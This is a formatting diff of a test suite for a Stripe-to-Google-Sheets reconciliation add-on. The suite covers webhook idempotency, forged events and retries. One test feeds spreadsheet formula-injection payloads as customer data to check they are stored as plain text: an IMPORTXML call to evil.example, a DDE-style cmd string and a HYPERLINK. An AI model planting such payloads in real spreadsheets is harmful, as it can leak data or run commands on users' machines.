@@ -21,8 +21,16 @@ describe('setting up', () => {
     expect(token).toMatch(/^[0-9a-f]{64}$/);
     const sheet = app.workbook.getSheet('Reconciliation');
     expect(sheet?.values()[0]?.slice(0, 10)).toEqual([
-      'session_id', 'client_reference_id', 'payment_status', 'amount', 'currency',
-      'customer_email', 'payment_link', 'livemode', 'created', 'last_event',
+      'session_id',
+      'client_reference_id',
+      'payment_status',
+      'amount',
+      'currency',
+      'customer_email',
+      'payment_link',
+      'livemode',
+      'created',
+      'last_event',
     ]);
     expect(sheet?.frozenRows).toBe(1);
     const dialog = run.services.ui.lastDialog();
@@ -39,7 +47,12 @@ describe('a delivery', () => {
   it('writes a completed session once, whatever the number of redeliveries', () => {
     const app = addOn();
     app.setUp();
-    const { session, events } = app.stripe.scenario.paid({ currency: 'usd', amount: 1999, email: 'jenny@example.com', clientReferenceId: 'nl-0001' });
+    const { session, events } = app.stripe.scenario.paid({
+      currency: 'usd',
+      amount: 1999,
+      email: 'jenny@example.com',
+      clientReferenceId: 'nl-0001',
+    });
     const first = app.deliver(events[0]!);
     expect(first).toMatchObject({ ok: true, result: 'inserted', session: session.id, event: events[0]!.id });
     for (let i = 0; i < 5; i++) expect(app.deliver(events[0]!)).toMatchObject({ ok: true, result: 'unchanged' });
@@ -117,23 +130,38 @@ describe('a delivery', () => {
     app.setUp();
     const { events } = app.stripe.scenario.expired();
     expect(app.deliver(events[0]!)).toMatchObject({ ok: true, result: 'ignored' });
-    expect(app.deliver({ ...events[0]!, type: 'invoice.paid', data: { object: { object: 'invoice' } } })).toMatchObject({ ok: true, result: 'ignored' });
+    expect(app.deliver({ ...events[0]!, type: 'invoice.paid', data: { object: { object: 'invoice' } } })).toMatchObject({
+      ok: true,
+      result: 'ignored',
+    });
     expect(app.rows()).toEqual([]);
   });
 
   it('stores payload text as literal text, never as a formula', () => {
     const app = addOn();
     app.setUp();
-    const hostile = ['=IMPORTXML("https://evil.example/x","//a")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', "'quoted", '00123', 'TRUE', '2024-03-01'];
-    const sessions = hostile.map((text) =>
-      app.stripe.scenario.paid({ email: text, session: { customer_email: text } }),
-    );
+    const hostile = [
+      '=IMPORTXML("https://evil.example/x","//a")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(A1)',
+      "'quoted",
+      '00123',
+      'TRUE',
+      '2024-03-01',
+    ];
+    const sessions = hostile.map((text) => app.stripe.scenario.paid({ email: text, session: { customer_email: text } }));
     // client_reference_id is set by the buyer's link and reaches us as it was sent.
     const { events } = app.stripe.scenario.paid({ clientReferenceId: '=HYPERLINK("https://evil.example","click")' });
     for (const { events: sent } of sessions) expect(app.deliver(sent[0]!)).toMatchObject({ ok: true, result: 'inserted' });
     app.deliver(events[0]!);
     expect(app.formulas()).toEqual([]);
-    expect(app.rows().slice(0, hostile.length).map((row) => row.customer_email)).toEqual(hostile);
+    expect(
+      app
+        .rows()
+        .slice(0, hostile.length)
+        .map((row) => row.customer_email),
+    ).toEqual(hostile);
     expect(app.rows()[hostile.length]?.client_reference_id).toBe('=HYPERLINK("https://evil.example","click")');
   });
 });
@@ -198,7 +226,7 @@ describe('what is refused, and leaves Reconciliation untouched', () => {
     );
   });
 
-  it('answers JSON, not Apps Script\'s HTML error page, when something breaks inside', () => {
+  it("answers JSON, not Apps Script's HTML error page, when something breaks inside", () => {
     const app = addOn();
     app.setUp();
     // A user renamed a column header to something else and then deleted the tab's rows: still JSON.
@@ -219,13 +247,16 @@ describe('what is refused, and leaves Reconciliation untouched', () => {
 });
 
 describe('with a restricted Stripe key', () => {
-  it('writes only Stripe\'s copy of the session', () => {
+  it("writes only Stripe's copy of the session", () => {
     const app = addOn();
     app.setUp();
     app.menu('connectStripeKey', { text: KEY });
     expect(app.properties.script.get('STRIPE_API_KEY')).toBe(KEY);
     const { session, events } = app.stripe.scenario.paid({ amount: 1999, email: 'real@example.com' });
-    const tampered = { ...events[0]!, data: { object: { ...(events[0]!.data.object as object), amount_total: 1, customer_details: { email: 'forged@example.com' } } } };
+    const tampered = {
+      ...events[0]!,
+      data: { object: { ...(events[0]!.data.object as object), amount_total: 1, customer_details: { email: 'forged@example.com' } } },
+    };
     expect(app.deliver(tampered)).toMatchObject({ ok: true, result: 'inserted', verified: true });
     expect(app.rows()[0]).toMatchObject({ session_id: session.id, amount_minor: 1999, customer_email: 'real@example.com' });
   });
@@ -236,12 +267,15 @@ describe('with a restricted Stripe key', () => {
     app.menu('connectStripeKey', { text: KEY });
     const { events } = app.stripe.scenario.paid();
     const forged = { ...events[0]!, id: 'evt_1ForgedEventThatStripeNeverSent' };
-    expect(app.deliver(forged)).toMatchObject({ ok: false, error: expect.stringMatching(/Could not confirm evt_1ForgedEventThatStripeNeverSent/) });
+    expect(app.deliver(forged)).toMatchObject({
+      ok: false,
+      error: expect.stringMatching(/Could not confirm evt_1ForgedEventThatStripeNeverSent/),
+    });
     expect(app.rows()).toEqual([]);
     expect(app.rows('Webhook log')).toEqual([expect.objectContaining({ reason: 'not confirmed by Stripe', count: 1 })]);
   });
 
-  it('leaves the delivery for Stripe to retry while Stripe\'s API is down', () => {
+  it("leaves the delivery for Stripe to retry while Stripe's API is down", () => {
     const app = addOn();
     app.setUp();
     app.menu('connectStripeKey', { text: KEY });
@@ -282,12 +316,10 @@ describe('any order, any repeats', () => {
     expect(expected).toHaveLength(4);
 
     // Every event at least once plus any repeats, in any order.
-    const deliveries = fc
-      .array(fc.nat(events.length - 1), { maxLength: events.length * 2 })
-      .chain((repeats) => {
-        const all = [...events.map((_, i) => i), ...repeats];
-        return fc.shuffledSubarray(all, { minLength: all.length, maxLength: all.length });
-      });
+    const deliveries = fc.array(fc.nat(events.length - 1), { maxLength: events.length * 2 }).chain((repeats) => {
+      const all = [...events.map((_, i) => i), ...repeats];
+      return fc.shuffledSubarray(all, { minLength: all.length, maxLength: all.length });
+    });
     fc.assert(
       fc.property(deliveries, (order) => {
         const app = new AddOn(stripe);
